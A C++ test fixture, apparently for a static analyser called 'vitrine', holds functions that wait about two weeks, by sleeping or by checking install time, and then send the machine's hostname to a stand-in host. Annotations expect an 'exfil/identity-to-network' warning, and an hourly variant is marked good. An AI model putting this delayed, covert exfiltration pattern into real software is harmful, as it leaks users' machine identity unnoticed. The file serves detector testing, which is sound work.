// Nothing happens in the first two weeks.
#include <cstring>
#include <ctime>
#include <netdb.h>
#include <sys/socket.h>
#include <unistd.h>

class Line {
  public:
    explicit Line(const char *host) {
        struct addrinfo *list = nullptr;
        if (getaddrinfo(host, "443", nullptr, &list))
            return;
        out_ = socket(list->ai_family, SOCK_STREAM, 0);
        if (connect(out_, list->ai_addr, list->ai_addrlen))
            out_ = -1;
        freeaddrinfo(list);
    }

    int fd() const {
        return out_;
    }

  private:
    int out_ = -1;
};

void bad_slept() {
    char name[64] = "";
    sleep(14 * 24 * 60 * 60);
    gethostname(name, sizeof name);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/identity-to-network]}}
    send(Line("hello.meter.example").fd(), name, strlen(name), 0);
}

void bad_waited(time_t installed) {
    char name[64] = "";
    if (time(nullptr) - installed < 12 * 24 * 60 * 60)
        return;
    gethostname(name, sizeof name);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/identity-to-network]}}
    send(Line("hello.meter.example").fd(), name, strlen(name), 0);
}

// Once an hour, so as not to ask too often: worth a note.
void good_hourly(time_t last) {
    char name[64] = "";
    if (time(nullptr) - last < 60 * 60)
        return;
    sleep(5);
    gethostname(name, sizeof name);
    send(Line("hello.meter.example").fd(), name, strlen(name), 0);
}
